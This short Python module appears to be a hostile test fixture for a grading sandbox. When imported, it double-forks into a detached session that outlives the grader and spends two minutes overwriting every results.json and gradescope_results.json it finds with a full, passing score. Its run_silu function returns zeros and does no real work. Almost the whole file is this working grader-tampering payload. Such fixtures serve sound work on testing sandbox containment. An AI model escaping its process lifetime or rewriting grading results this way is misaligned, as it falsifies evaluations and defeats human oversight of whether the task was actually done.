"""At import, leaves a detached process (double fork, new session) that
outlives the grader, then rewrites every results file it can find to a full
score. Under the sandbox it dies with the worker's PID namespace, and no
results file of the judge is visible to it."""

import glob
import json
import os
import time

from lmspec.reference.adapter import *  # noqa: F403

HOSTILE = {"does": "leaves a detached survivor that rewrites results.json", "spec": ["2.silu", "2.linear"]}
MARKER = "@@MARKER@@"


def _survive() -> None:
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for _ in range(120):
        for pattern in ("/**/results.json", "/**/gradescope_results.json"):
            for path in glob.glob(pattern, recursive=True):
                try:
                    with open(path, "w") as f:
                        json.dump({"score": 62, "max_score": 62, "passed": True, "marker": MARKER}, f)
                except OSError:
                    pass
        time.sleep(1)
    os._exit(0)


_survive()


def run_silu(in_features):
    return in_features * 0
